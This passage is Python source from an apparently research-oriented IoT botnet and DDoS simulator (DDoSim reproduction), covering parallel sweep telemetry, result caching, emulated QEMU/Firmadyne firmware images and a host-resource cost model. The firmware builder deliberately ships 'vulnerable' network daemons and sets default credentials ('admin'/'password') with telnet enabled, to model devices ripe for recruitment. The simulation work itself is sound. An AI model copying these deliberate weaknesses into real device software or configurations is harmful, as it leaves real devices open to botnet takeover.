        # Interrupted sweep parent: dump the telemetry flight recorder
        # so the run-up survives the ^C / SIGTERM, then propagate.
        if telemetry is not None:
            telemetry.interrupted("KeyboardInterrupt")
        raise


def run_configs(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> List[RunResult]:
    """Run every config; results come back in input order.

    ``jobs<=1`` runs serially in this process (the exact seed path);
    ``jobs>1`` spreads points across that many supervised workers.
    """
    return run_map(_run_one, configs, jobs)


def run_configs_with_metrics(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> Tuple[List[RunResult], Dict[str, dict]]:
    """Like :func:`run_configs`, but each run carries a metrics-only
    observatory; returns (results, merged metric snapshot)."""
    pairs = run_map(_run_one_with_metrics, configs, jobs)
    results = [result for result, _snapshot in pairs]
    merged = merge_metric_snapshots([snapshot for _result, snapshot in pairs])
    return results, merged


# ----------------------------------------------------------------------
# Sweep telemetry
# ----------------------------------------------------------------------
class SweepTelemetry:
    """Live observability for one sweep: per-point worker spans, cache
    hit/miss attribution, straggler flagging and an ETA, streamed as
    progress lines (stderr by default).

    This is *harness* telemetry — it measures the sweep machinery in
    wall time, not the simulation, so it lives outside the determinism
    contract: enabling ``--progress`` cannot change a single row.  Each
    completed point becomes a span in a sweep-local :class:`SpanTracker`
    (wall-clock offsets from :meth:`begin`), and every progress event is
    noted into a sweep-local :class:`FlightRecorder` that dumps itself
    when a worker dies or the sweep parent is interrupted, so a crashed
    sweep leaves a post-mortem of the points that led up to the death.

    ``quiet=True`` suppresses routine progress lines but keeps recording
    (and still prints failure/quarantine/interrupt diagnostics) — sweep
    CLIs run with a quiet telemetry unless ``--progress`` is given, so
    an interrupted or degraded sweep always leaves its post-mortem.
    """

    def __init__(self, label: str = "sweep", stream=None,
                 straggler_factor: float = 3.0, quiet: bool = False):
        self.label = label
        self.stream = stream if stream is not None else sys.stderr
        self.straggler_factor = straggler_factor
        self.quiet = quiet
        self.spans = SpanTracker()
        self.recorder = FlightRecorder()
        self.total = 0
        self.jobs = 1
        self.done = 0
        self.cached = 0
        self.computed = 0
        self.stragglers: List[int] = []
        self.quarantined: List[int] = []
        self.retries: List[Tuple[int, int, str]] = []
        self.last_summary: Optional[dict] = None
        #: highest per-worker peak RSS reported so far (KiB, ru_maxrss)
        self.peak_rss_kib: Optional[int] = None
        self._elapsed: List[float] = []
        self._t0 = 0.0

    # -- internals ------------------------------------------------------
    def _now(self) -> float:
        """Seconds since :meth:`begin` (wall clock, harness-side only)."""
        return time.monotonic() - self._t0  # simlint: disable=SIM101

    def _line(self, text: str, force: bool = False) -> None:
        if self.quiet and not force:
            return
        print(f"[{self.label}] {text}", file=self.stream, flush=True)

    def _eta(self) -> Optional[float]:
        remaining = self.total - self.done
        if not self._elapsed or remaining <= 0:
            return None
        mean = sum(self._elapsed) / len(self._elapsed)
        return remaining * mean / max(self.jobs, 1)

    # -- lifecycle ------------------------------------------------------
    def begin(self, total: int, jobs: int = 1) -> None:
        self.total = total
        self.jobs = max(jobs, 1)
        self._t0 = time.monotonic()  # simlint: disable=SIM101
        self.recorder.note("sweep.begin", 0.0, total=total, jobs=self.jobs)
        self._line(f"{total} points, jobs={self.jobs}")

    def point_cached(self, index: int, key: Optional[str] = None) -> None:
        self.done += 1
        self.cached += 1
        t = self._now()
        span = self.spans.start("sweep.point", t, entity=str(index),
                                source="cache", **({"key": key} if key else {}))
        self.spans.end(span, t)
        self.recorder.note("sweep.cache_hit", t, index=index,
                           **({"key": key} if key else {}))
        suffix = f" (key {key})" if key else ""
        self._line(f"point {index}: cache hit{suffix} "
                   f"[{self.done}/{self.total}]")

    def _track_rss(self, rss_kib: Optional[int]) -> str:
        if rss_kib is None:
            return ""
        if self.peak_rss_kib is None or rss_kib > self.peak_rss_kib:
            self.peak_rss_kib = rss_kib
        return f", rss {rss_kib / 1024.0:.0f}MiB"

    def point_done(self, index: int, elapsed: float,
                   rss_kib: Optional[int] = None) -> None:
        self.done += 1
        self.computed += 1
        self._elapsed.append(elapsed)
        rss_text = self._track_rss(rss_kib)
        t = self._now()
        span = self.spans.start("sweep.point", t - elapsed,
                                entity=str(index), source="computed")
        self.spans.end(span, t, elapsed=round(elapsed, 6))
        self.recorder.note("sweep.point_done", t, index=index,
                           elapsed=round(elapsed, 3),
                           **({"rss_kib": rss_kib} if rss_kib else {}))
        straggler = ""
        if len(self._elapsed) >= 3:
            median = sorted(self._elapsed)[len(self._elapsed) // 2]
            if median > 0 and elapsed > self.straggler_factor * median:
                self.stragglers.append(index)
                straggler = f" STRAGGLER ({elapsed:.1f}s vs median {median:.1f}s)"
        eta = self._eta()
        eta_text = f", eta {eta:.0f}s" if eta is not None else ""
        self._line(f"point {index}: computed in {elapsed:.1f}s "
                   f"[{self.done}/{self.total}{eta_text}]{rss_text}{straggler}")

    def point_retried(self, index: int, attempt: int, reason: str,
                      delay: float) -> None:
        t = self._now()
        self.retries.append((index, attempt, reason))
        self.recorder.note("sweep.point_retry", t, index=index,
                           attempt=attempt, reason=reason,
                           backoff=round(delay, 3))
        self._line(f"point {index}: {reason}, retry {attempt} "
                   f"in {delay:.2f}s", force=True)

    def point_quarantined(self, index: int, reason: str,
                          attempts: int) -> None:
        self.done += 1
        self.quarantined.append(index)
        t = self._now()
        self.recorder.note("sweep.quarantine", t, index=index,
                           reason=reason, attempts=attempts)
        self._line(f"point {index}: QUARANTINED after {attempts} "
                   f"attempt(s) ({reason}) [{self.done}/{self.total}]",
                   force=True)

    def worker_died(self, error: BaseException,
                    rss_kib: Optional[int] = None) -> None:
        self._track_rss(rss_kib)
        t = self._now()
        extra = {"rss_kib": rss_kib} if rss_kib else {}
        self.recorder.note("sweep.worker_death", t, error=repr(error), **extra)
        dump = self.recorder.dump("sweep.worker_death", t, error=repr(error),
                                  **extra)
        self._line(f"worker died: {error!r}", force=True)
        if dump is not None:
            self._line(f"flight recorder: {len(dump['notes'])} notes "
                       f"preserved for post-mortem", force=True)

    def worker_lost(self, index: Optional[int], detail: str,
                    rss_kib: Optional[int] = None) -> None:
        """A supervised worker process died mid-sweep (pipe EOF, kill,
        silent exit).  Unlike :meth:`worker_died` this is non-fatal —
        the point is retried — but it still force-dumps the flight
        recorder so even a survived death leaves its post-mortem."""
        self._track_rss(rss_kib)
        t = self._now()
        extra = {"rss_kib": rss_kib} if rss_kib else {}
        if index is not None:
            extra["index"] = index
        self.recorder.note("sweep.worker_lost", t, detail=detail, **extra)
        dump = self.recorder.dump("sweep.worker_lost", t, detail=detail,
                                  **extra)
        rss_text = (f", last peak rss {rss_kib / 1024.0:.0f}MiB"
                    if rss_kib else "")
        self._line(f"worker lost ({detail}){rss_text}", force=True)
        if dump is not None:
            self._line(f"flight recorder: {len(dump['notes'])} notes "
                       f"preserved for post-mortem", force=True)

    def interrupted(self, reason: str = "KeyboardInterrupt") -> None:
        """Sweep parent interrupted (^C / SIGTERM): force a recorder
        dump so the run-up to the interruption survives."""
        t = self._now()
        dump = self.recorder.dump("sweep.interrupted", t, reason=reason)
        self._line(f"interrupted ({reason})", force=True)
        if dump is not None:
            self._line(f"flight recorder: {len(dump['notes'])} notes "
                       f"preserved for post-mortem", force=True)

    def finish(self) -> dict:
        t = self._now()
        summary = {
            "total": self.total,
            "cached": self.cached,
            "computed": self.computed,
            "stragglers": list(self.stragglers),
            "quarantined": list(self.quarantined),
            "retries": len(self.retries),
            "wall_seconds": round(t, 3),
        }
        if self.peak_rss_kib is not None:
            summary["peak_rss_kib"] = self.peak_rss_kib
        self.recorder.note("sweep.finish", t, **{
            key: value for key, value in summary.items()
            if key not in ("stragglers", "quarantined")
        })
        straggler_text = (f", stragglers: {self.stragglers}"
                          if self.stragglers else "")
        quarantine_text = (f", QUARANTINED: {self.quarantined}"
                           if self.quarantined else "")
        rss_text = (f", peak worker rss {self.peak_rss_kib / 1024.0:.0f}MiB"
                    if self.peak_rss_kib is not None else "")
        self._line(f"done: {self.cached} cached + {self.computed} computed "
                   f"of {self.total} in {t:.1f}s{rss_text}"
                   f"{straggler_text}{quarantine_text}",
                   force=bool(self.quarantined))
        self.last_summary = summary
        return summary


# ----------------------------------------------------------------------
# Cache-aware incremental sweeps
# ----------------------------------------------------------------------
def run_cached(
    point_fn,
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
    cache=None,
    telemetry: Optional[SweepTelemetry] = None,
    supervision: Optional[Supervision] = None,
) -> List:
    """Evaluate ``point_fn`` (config -> :class:`repro.cache.CachedRun`)
    over a grid, serving cache hits instantly and committing each
    computed miss the moment it finishes.

    With ``cache=None`` this is exactly :func:`run_map`.  With a
    :class:`repro.cache.RunCache`:

    1. every config is fingerprinted and looked up — hits cost one JSON
       deserialize, no simulator is built;
    2. only the misses go to the supervised work queue;
    3. each completed miss is committed from this (parent) process —
       one writer, atomic rename — so interrupting the sweep loses only
       in-flight points, and the rerun resumes from the committed ones;
    4. the session's hit/miss tally is persisted for
       ``repro cache stats``.

    Results come back in grid order either way.  ``supervision`` is
    passed through to :func:`run_map`; quarantined points appear as
    :class:`QuarantinedPoint` entries in the returned list (never
    committed to the cache) and are reported on stderr.
    """
    if telemetry is not None:
        telemetry.begin(len(configs), jobs)
    if cache is None:
        results = run_map(point_fn, configs, jobs, telemetry=telemetry,
                          supervision=supervision)
        _report_quarantined(results, telemetry)
        if telemetry is not None:
            telemetry.finish()
        return results

    results: List = [None] * len(configs)
    miss_indices: List[int] = []
    for index, config in enumerate(configs):
        hit = cache.get(config)
        if hit is not None:
            results[index] = hit
            if telemetry is not None:
                telemetry.point_cached(index, key=cache.describe(config))
        else:
            miss_indices.append(index)

    def commit(position: int, value) -> None:
        index = miss_indices[position]
        results[index] = value
        cache.put(configs[index], value)

    try:
        miss_results = run_map(
            point_fn,
            [configs[index] for index in miss_indices],
            jobs,
            on_complete=commit,
            telemetry=telemetry,
            supervision=supervision,
        )
        for position, value in enumerate(miss_results):
            if isinstance(value, QuarantinedPoint):
                # Re-key from miss position to grid index; quarantined
                # points are never cached, so a rerun retries them.
                results[miss_indices[position]] = replace(
                    value, index=miss_indices[position]
                )
    finally:
        cache.commit_session()
    _report_quarantined(results, telemetry)
    if telemetry is not None:
        telemetry.finish()
    return results


def _report_quarantined(results: Sequence,
                        telemetry: Optional[SweepTelemetry]) -> None:
    """Make sure quarantined points are visible even without
    ``--progress`` telemetry (which already prints them forcefully)."""
    if telemetry is not None:
        return
    quarantined = [
        entry.index for entry in results if isinstance(entry, QuarantinedPoint)
    ]
    if quarantined:
        print(
            f"[sweep] quarantined {len(quarantined)} point(s) after "
            f"retries: indices {quarantined}",
            file=sys.stderr,
        )


def merge_metric_snapshots(
    snapshots: Sequence[Dict[str, dict]],
) -> Dict[str, dict]:
    """Merge per-run ``MetricsRegistry.snapshot()`` dicts into one.

    Counters and histogram buckets sum across runs; gauges keep the
    maximum (a fleet-wide high-water mark — gauges here are peaks like
    heap depth, not levels that would average meaningfully).
    """
    merged: Dict[str, dict] = {"counters": {}, "gauges": {}, "histograms": {}}
    for snapshot in snapshots:
        for name, series in snapshot.get("counters", {}).items():
            into = merged["counters"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = into.get(labels, 0) + value
        for name, series in snapshot.get("gauges", {}).items():
            into = merged["gauges"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = max(into.get(labels, value), value)
        for name, series in snapshot.get("histograms", {}).items():
            into = merged["histograms"].setdefault(name, {})
            for labels, hist in series.items():
                existing = into.get(labels)
                if existing is None:
                    into[labels] = {
                        "count": hist.get("count", 0),
                        "sum": hist.get("sum", 0.0),
                        "mean": hist.get("mean", 0.0),
                        "buckets": dict(hist.get("buckets", {})),
                    }
                    continue
                existing["count"] += hist.get("count", 0)
                existing["sum"] += hist.get("sum", 0.0)
                existing["mean"] = (
                    existing["sum"] / existing["count"] if existing["count"] else 0.0
                )
                buckets = existing["buckets"]
                for edge, count in hist.get("buckets", {}).items():
                    buckets[edge] = buckets.get(edge, 0) + count
    return merged
