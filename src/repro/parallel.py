"""Parallel execution of independent experiment grid points.

Every sweep in :mod:`repro.core.experiment` evaluates a grid whose
points share nothing — each builds its own :class:`Simulator` from its
own config and seed — so they spread perfectly across worker processes.
This module is the one place that knows how.

Dispatch is a **dynamic work queue**, not static sharding: tasks sit on
one shared queue and idle workers pull the next point the moment they
finish their last (``imap_unordered`` with single-task chunks — the
multiprocessing flavour of work stealing).  A sweep whose grid is skewed
(one 150-Dev point among 10-Dev points) no longer idles the pool behind
its slowest static shard; the slow point occupies one worker while the
rest drain everything else.

:func:`run_cached` adds the cache layer (:mod:`repro.cache`): it first
partitions the grid into hits — served instantly from disk, no
simulator built — and misses, dispatches only the misses, and commits
each finished point to the cache *as it completes*.  An interrupted
sweep therefore resumes: rerunning it re-serves every committed point
and recomputes only the remainder.

Determinism: a run's outcome depends only on its config (the per-run
RNGs are seeded from ``config.seed``), so neither sharding nor dispatch
order can change any result — ``jobs=N`` returns byte-identical rows to
``jobs=1``, just sooner on a multi-core host.  ``jobs<=1`` bypasses
multiprocessing entirely and runs the exact serial path (in grid order).
"""

from __future__ import annotations

import multiprocessing
import os
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.core.config import SimulationConfig
from repro.core.results import RunResult


def default_jobs() -> int:
    """Worker count when the caller says "parallel" without a number:
    every core, capped so tiny grids don't fork idle workers."""
    return os.cpu_count() or 1


def _run_one(config: SimulationConfig) -> RunResult:
    # Module-level so it pickles for the pool.
    from repro.core.framework import DDoSim

    return DDoSim(config).run()


def _run_one_with_metrics(
    config: SimulationConfig,
) -> Tuple[RunResult, Dict[str, dict]]:
    from repro.core.framework import DDoSim
    from repro.obs import Observatory

    ddosim = DDoSim(config, observatory=Observatory())
    result = ddosim.run()
    return result, ddosim.obs.metrics.snapshot()


def _make_pool(jobs: int):
    # fork shares the already-imported modules with the workers; fall
    # back to the platform default (spawn) where fork is unavailable.
    try:
        context = multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        context = multiprocessing.get_context()
    return context.Pool(processes=jobs)


def _invoke_indexed(task):
    """Pool entry point: run one tagged task so unordered completion can
    still be reassembled into grid order."""
    index, fn, item = task
    return index, fn(item)


def run_map(
    fn,
    items: Sequence,
    jobs: int = 1,
    on_complete: Optional[Callable[[int, object], None]] = None,
) -> List:
    """Map a picklable ``fn`` over ``items`` through the dynamic work
    queue; results come back in input order.

    ``on_complete(index, value)`` fires in *this* process as each item
    finishes (completion order, not input order) — the hook
    :func:`run_cached` uses to commit points incrementally.  ``jobs<=1``
    runs serially in this process (the exact seed path, input order).
    """
    if jobs <= 1 or len(items) <= 1:
        out = []
        for index, item in enumerate(items):
            value = fn(item)
            if on_complete is not None:
                on_complete(index, value)
            out.append(value)
        return out
    tasks = [(index, fn, item) for index, item in enumerate(items)]
    results: List = [None] * len(items)
    with _make_pool(min(jobs, len(items))) as pool:
        # chunksize=1 keeps every task on the shared queue until a
        # worker is actually free — self-balancing under skewed grids.
        for index, value in pool.imap_unordered(_invoke_indexed, tasks, 1):
            results[index] = value
            if on_complete is not None:
                on_complete(index, value)
    return results


def run_configs(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> List[RunResult]:
    """Run every config; results come back in input order.

    ``jobs<=1`` runs serially in this process (the exact seed path);
    ``jobs>1`` spreads points across that many workers via the shared
    queue.
    """
    return run_map(_run_one, configs, jobs)


def run_configs_with_metrics(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> Tuple[List[RunResult], Dict[str, dict]]:
    """Like :func:`run_configs`, but each run carries a metrics-only
    observatory; returns (results, merged metric snapshot)."""
    pairs = run_map(_run_one_with_metrics, configs, jobs)
    results = [result for result, _snapshot in pairs]
    merged = merge_metric_snapshots([snapshot for _result, snapshot in pairs])
    return results, merged


# ----------------------------------------------------------------------
# Cache-aware incremental sweeps
# ----------------------------------------------------------------------
def run_cached(
    point_fn,
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
    cache=None,
) -> List:
    """Evaluate ``point_fn`` (config -> :class:`repro.cache.CachedRun`)
    over a grid, serving cache hits instantly and committing each
    computed miss the moment it finishes.

    With ``cache=None`` this is exactly :func:`run_map`.  With a
    :class:`repro.cache.RunCache`:

    1. every config is fingerprinted and looked up — hits cost one JSON
       deserialize, no simulator is built;
    2. only the misses go to the dynamic work queue;
    3. each completed miss is committed from this (parent) process —
       one writer, atomic rename — so interrupting the sweep loses only
       in-flight points, and the rerun resumes from the committed ones;
    4. the session's hit/miss tally is persisted for
       ``repro cache stats``.

    Results come back in grid order either way.
    """
    if cache is None:
        return run_map(point_fn, configs, jobs)

    results: List = [None] * len(configs)
    miss_indices: List[int] = []
    for index, config in enumerate(configs):
        hit = cache.get(config)
        if hit is not None:
            results[index] = hit
        else:
            miss_indices.append(index)

    def commit(position: int, value) -> None:
        index = miss_indices[position]
        results[index] = value
        cache.put(configs[index], value)

    try:
        run_map(
            point_fn,
            [configs[index] for index in miss_indices],
            jobs,
            on_complete=commit,
        )
    finally:
        cache.commit_session()
    return results


def merge_metric_snapshots(
    snapshots: Sequence[Dict[str, dict]],
) -> Dict[str, dict]:
    """Merge per-run ``MetricsRegistry.snapshot()`` dicts into one.

    Counters and histogram buckets sum across runs; gauges keep the
    maximum (a fleet-wide high-water mark — gauges here are peaks like
    heap depth, not levels that would average meaningfully).
    """
    merged: Dict[str, dict] = {"counters": {}, "gauges": {}, "histograms": {}}
    for snapshot in snapshots:
        for name, series in snapshot.get("counters", {}).items():
            into = merged["counters"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = into.get(labels, 0) + value
        for name, series in snapshot.get("gauges", {}).items():
            into = merged["gauges"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = max(into.get(labels, value), value)
        for name, series in snapshot.get("histograms", {}).items():
            into = merged["histograms"].setdefault(name, {})
            for labels, hist in series.items():
                existing = into.get(labels)
                if existing is None:
                    into[labels] = {
                        "count": hist.get("count", 0),
                        "sum": hist.get("sum", 0.0),
                        "mean": hist.get("mean", 0.0),
                        "buckets": dict(hist.get("buckets", {})),
                    }
                    continue
                existing["count"] += hist.get("count", 0)
                existing["sum"] += hist.get("sum", 0.0)
                existing["mean"] = (
                    existing["sum"] / existing["count"] if existing["count"] else 0.0
                )
                buckets = existing["buckets"]
                for edge, count in hist.get("buckets", {}).items():
                    buckets[edge] = buckets.get(edge, 0) + count
    return merged
