"""The QEMU/Firmadyne system wrapper: full-system emulation of one Dev.

Differences from the container mode, modelled after what full-system
emulation actually costs (and why the paper avoids it at scale):

* **guest RAM reserved up front** — the QEMU process allocates the whole
  machine's memory (64 MB default) regardless of what the guest uses,
  ~10x a container's footprint;
* **boot sequence** — kernel, then init, then services come up over
  several simulated seconds; the vulnerable daemon is not reachable at
  t=0 (so recruitment completes later than in container mode);
* **full userland** — syslogd, watchdog, the vendor web UI and
  telnet/ssh all run, adding process overhead and attack surface.

The network attachment reuses the same ghost-node bridge ("connect it to
the NS-3 network using virtual bridges", §III-B), so everything above
the link layer is identical across emulation modes.
"""

from __future__ import annotations

from typing import Optional

from repro.container.container import Container
from repro.container.image import Image
from repro.container.runtime import ContainerRuntime
from repro.firmware.image import FirmwareImage
from repro.netsim.node import Node
from repro.services.http import HttpFileServer

#: staged boot: (stage name, simulated seconds)
BOOT_STAGES = (("kernel", 2.0), ("init", 1.5), ("services", 1.0))


def _syslogd_program(ctx):
    """Collects kernel/service chatter; exists to occupy the process
    table (and be visible to Mirai's rival scan)."""
    ctx.log("syslogd: started")
    while True:
        yield ctx.sleep(60.0)


def _watchdog_program(ctx):
    """Pets the hardware watchdog periodically (boot-loop insurance)."""
    while True:
        yield ctx.sleep(30.0)


class QemuSystem:
    """One fully-emulated device instance."""

    def __init__(
        self,
        runtime: ContainerRuntime,
        firmware: FirmwareImage,
        name: str,
        node: Node,
    ):
        self.runtime = runtime
        self.firmware = firmware
        self.name = name
        self.node = node
        self.sim = runtime.sim
        self.booted = False
        self.boot_completed_at: Optional[float] = None
        self._mgmt_httpd = HttpFileServer(root="/www", port=80)

        image = Image(
            f"qemu-{name}",
            architecture=firmware.metadata.architecture,
            # QEMU reserves the whole guest RAM up front.
            base_rss_bytes=firmware.guest_ram_bytes,
        )
        image.fs.overlay(firmware.rootfs)
        image.fs.write_file(
            "/sbin/init", b"#!init\x00", mode=0o755, program=self._init_program()
        )
        image.fs.write_file(
            "/sbin/syslogd", b"\x7fsyslogd\x00", mode=0o755,
            program=_syslogd_program,
        )
        image.fs.write_file(
            "/sbin/watchdog", b"\x7fwatchdog\x00", mode=0o755,
            program=_watchdog_program,
        )
        image.fs.write_file(
            "/usr/sbin/httpd", b"\x7fhttpd\x00", mode=0o755,
            program=self._mgmt_httpd.program(),
        )
        image.entrypoint = ["/sbin/init"]
        runtime.add_image(image)
        self.container: Container = runtime.create(image.reference, name=name)
        # NVRAM lands in the environment, like Firmadyne's libnvram shim.
        for key, value in firmware.nvram.items():
            self.container.env.setdefault(f"NVRAM_{key.upper()}", value)
        runtime.attach_network(self.container, node)

    # ------------------------------------------------------------------
    def _init_program(self):
        system = self
        daemon_path = self.firmware.daemon_path

        def init(ctx):
            # Kernel + init stages: nothing answers the network yet.
            for stage, duration in BOOT_STAGES:
                ctx.log(f"boot: {stage}")
                yield ctx.sleep(duration)
            for path in ("/sbin/syslogd", "/sbin/watchdog", "/usr/sbin/httpd",
                         "/usr/sbin/telnetd", "/usr/sbin/dropbear"):
                if ctx.fs.exists(path):
                    ctx.spawn([path])
            ctx.spawn([daemon_path])
            system.booted = True
            system.boot_completed_at = ctx.sim.now
            ctx.log("boot: complete")
            yield ctx.sleep(0.0)

        return init

    def start(self) -> None:
        self.runtime.start(self.container)

    @property
    def boot_time_s(self) -> float:
        return sum(duration for _stage, duration in BOOT_STAGES)

    def memory_bytes(self) -> int:
        return self.container.memory_bytes()

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        state = "booted" if self.booted else "booting"
        return f"<QemuSystem {self.name} ({self.firmware.metadata.product}) {state}>"
