"""IoT firmware images: what Firmadyne would unpack and boot.

A :class:`FirmwareImage` is the full vendor artifact — not just the one
network-facing binary the container mode ships, but a complete userland
(init, syslogd, watchdog, web management UI, telnet/ssh, the network
daemon) plus an NVRAM configuration store.  The vulnerable daemon inside
is byte-identical to the container mode's, so exploitability is the same
across emulation modes — exactly the paper's claim that "a device's
susceptibility to botnet recruitment is predominantly determined by the
vulnerability of its network-facing program".
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Tuple

from repro.binaries.busybox import make_dropbear_binary
from repro.binaries.connman import make_connman_binary
from repro.binaries.dnsmasq import make_dnsmasq_binary
from repro.binaries.logind import make_login_telnetd_binary
from repro.binaries.shell import make_shell_program
from repro.container.fs import InMemoryFilesystem

#: typical guest RAM of the device classes the paper's binaries ship on
DEFAULT_GUEST_RAM = 64 * 1024 * 1024


@dataclass(frozen=True)
class FirmwareMetadata:
    """Vendor identification, as Firmadyne's extractor would report it."""

    vendor: str
    product: str
    version: str
    architecture: str = "x86_64"
    kernel: str = "2.6.36"


@dataclass
class FirmwareImage:
    """One unpacked firmware: metadata + rootfs + NVRAM."""

    metadata: FirmwareMetadata
    rootfs: InMemoryFilesystem
    nvram: Dict[str, str] = field(default_factory=dict)
    guest_ram_bytes: int = DEFAULT_GUEST_RAM
    #: the network-facing daemon's path inside the rootfs
    daemon_path: str = ""

    @property
    def flash_size_bytes(self) -> int:
        return self.rootfs.total_bytes

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        meta = self.metadata
        return (
            f"<FirmwareImage {meta.vendor} {meta.product} {meta.version} "
            f"[{meta.architecture}] {self.flash_size_bytes // 1024}KiB flash>"
        )


_VENDORS = {
    "connman": ("Jolla", "SailfishGW"),
    "dnsmasq": ("Netgear", "WNR2000-clone"),
}


def build_firmware(
    kind: str = "dnsmasq",
    protections: Tuple[str, ...] = ("wx",),
    vulnerable: bool = True,
    version: str = "",
) -> FirmwareImage:
    """Assemble a complete firmware around the chosen vulnerable daemon.

    ``kind`` is "connman" or "dnsmasq"; the daemon build matches what
    :mod:`repro.core.devs` ships in container mode (same gadget layout),
    so one analyzed exploit works against both emulation modes.
    """
    if kind == "connman":
        daemon = make_connman_binary(
            protections=protections, vulnerable=vulnerable,
            **({"version": version} if version else {}),
        )
        daemon_path = "/usr/sbin/connmand"
    elif kind == "dnsmasq":
        daemon = make_dnsmasq_binary(
            protections=protections, vulnerable=vulnerable,
            **({"version": version} if version else {}),
        )
        daemon_path = "/usr/sbin/dnsmasq"
    else:
        raise ValueError(f"unknown firmware kind {kind!r}")

    vendor, product = _VENDORS[kind]
    rootfs = InMemoryFilesystem()
    rootfs.write_file("/bin/sh", b"#!sh\x00", mode=0o755,
                      program=make_shell_program())
    rootfs.write_file(daemon_path, daemon.serialize(), mode=0o755)
    rootfs.write_file(
        "/usr/sbin/telnetd", make_login_telnetd_binary().serialize(), mode=0o755
    )
    rootfs.write_file(
        "/usr/sbin/dropbear", make_dropbear_binary().serialize(), mode=0o755
    )
    # Vendor web management UI content (served by the emulated httpd).
    rootfs.write_file(
        "/www/index.html",
        (
            f"<html><head><title>{vendor} {product}</title></head>"
            f"<body><h1>{product} management</h1>"
            f"<p>firmware {daemon.version}</p></body></html>"
        ).encode(),
    )
    rootfs.write_file(
        "/etc/banner", f"{vendor} {product} (kernel 2.6.36)\n".encode()
    )
    rootfs.write_file("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")
    # Padding blobs model the rest of the vendor rootfs (libs, locales).
    rootfs.write_file("/lib/libc.so.0", b"\x7fELF" + b"\x00" * (620 * 1024))
    rootfs.write_file("/lib/libgcc_s.so.1", b"\x7fELF" + b"\x00" * (90 * 1024))

    nvram = {
        "lan_ipaddr": "192.168.1.1",
        "wan_proto": "dhcp",
        "http_username": "admin",
        "http_password": "password",
        "telnet_enabled": "1",
    }
    return FirmwareImage(
        metadata=FirmwareMetadata(
            vendor=vendor,
            product=product,
            version=daemon.version,
            architecture=daemon.architecture,
        ),
        rootfs=rootfs,
        nvram=nvram,
        daemon_path=daemon_path,
    )
