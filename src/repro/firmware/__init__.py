"""repro.firmware — Firmadyne-style full-firmware emulation of Devs.

Paper §II-B / §III-B: DDoSim mimics IoT devices with lightweight
containers *for scalability*, but "with more powerful hardware, DDoSim
can perform complete emulation of IoT firmware using Firmadyne (which
leverages QEMU for full IoT firmware emulation) and connect it to the
NS-3 network using virtual bridges."

This package provides that heavier mode:

* :mod:`repro.firmware.image` — firmware images: vendor metadata, an
  NVRAM config store, and a *full* rootfs (init, syslogd, watchdog, a
  busybox web management UI, telnet/ssh services) around the same
  vulnerable network daemon;
* :mod:`repro.firmware.qemu` — the QEMU/Firmadyne system wrapper: guest
  RAM reserved up front, a staged boot sequence (kernel → init →
  services) before the daemon is reachable, bridged into the simulated
  network like any other node.

Selecting ``dev_emulation="firmware"`` in
:class:`repro.core.config.SimulationConfig` runs the whole experiment
series against fully-emulated devices — the recruitment chain is
unchanged (that is the point), but the per-device footprint is ~10×,
quantifying the scalability argument for containers.
"""

from repro.firmware.image import FirmwareImage, FirmwareMetadata, build_firmware
from repro.firmware.qemu import QemuSystem

__all__ = [
    "FirmwareImage",
    "FirmwareMetadata",
    "QemuSystem",
    "build_firmware",
]
