"""The host-resource model behind Table I.

Table I of the paper reports what *the emulator itself* costs on a
16 GB / 2.7 GHz laptop: memory before and during the attack, and the
wall-clock "Attack Time" (which exceeds the simulated 100 s because the
host queues NS-3 event processing and Docker scheduling).

This reproduction has no Docker daemon or NS-3 process to measure, so the
cost structure is modelled and driven by the simulation's real outputs
(container census, actual flood byte counts):

* ``pre_attack_mem = host_base + Σ container_rss + per_dev_emulator_overhead``
  — container RSS comes from the emulated runtime's accounting; the
  per-Dev overhead covers the ghost node + TapBridge + veth plumbing.
* ``attack_mem = pre_attack_mem + packet_overhead × flood_bytes`` —
  NS-3 keeps generated packets (with heavy per-packet metadata) alive in
  queues/trace buffers during the flood; the paper's 130-Dev run shows
  1.79 GB of packet state for ~490 MB of raw flood bytes (130 Devs at a
  ~300 kbps mean for 100 s), i.e. a ~3.7× metadata blow-up, which is the
  default factor here.
* ``attack_time = duration + per_dev_cost × n + per_packet_cost × packets``
  — host event-processing backlog grows with both the container census
  and the packet volume.

Constants are calibrated so the published table's *shape* (monotone
growth, attack > pre-attack with a widening gap, attack time > simulated
duration) and rough magnitudes are reproduced; EXPERIMENTS.md records
paper-vs-model values.
"""

from __future__ import annotations

from dataclasses import dataclass

GB = 1024.0 ** 3

#: host baseline: VM guest OS + Docker daemon + NS-3 runtime (GB)
HOST_BASE_GB = 0.20
#: emulator plumbing per Dev: ghost node, TapBridge, veth pair (bytes)
PER_DEV_EMULATOR_BYTES = int(2.5 * 1024 * 1024)
#: NS-3 per-byte packet-metadata blow-up during the attack
PACKET_MEMORY_FACTOR = 3.7
#: host-side scheduling cost per Dev container (seconds of wall clock)
PER_DEV_TIME_COST = 0.20
#: host-side event-processing cost per flood packet (seconds)
PER_PACKET_TIME_COST = 1.5e-4


@dataclass
class ResourceReport:
    """Model outputs for one run — one Table I row."""

    n_devs: int
    pre_attack_mem_gb: float
    attack_mem_gb: float
    attack_time_s: float

    def attack_time_mmss(self) -> str:
        """Table I formats attack time as m:ss."""
        minutes, seconds = divmod(int(round(self.attack_time_s)), 60)
        return f"{minutes}:{seconds:02d}"


class ResourceModel:
    """Computes :class:`ResourceReport` from simulation measurements."""

    def __init__(
        self,
        host_base_gb: float = HOST_BASE_GB,
        per_dev_emulator_bytes: int = PER_DEV_EMULATOR_BYTES,
        packet_memory_factor: float = PACKET_MEMORY_FACTOR,
        per_dev_time_cost: float = PER_DEV_TIME_COST,
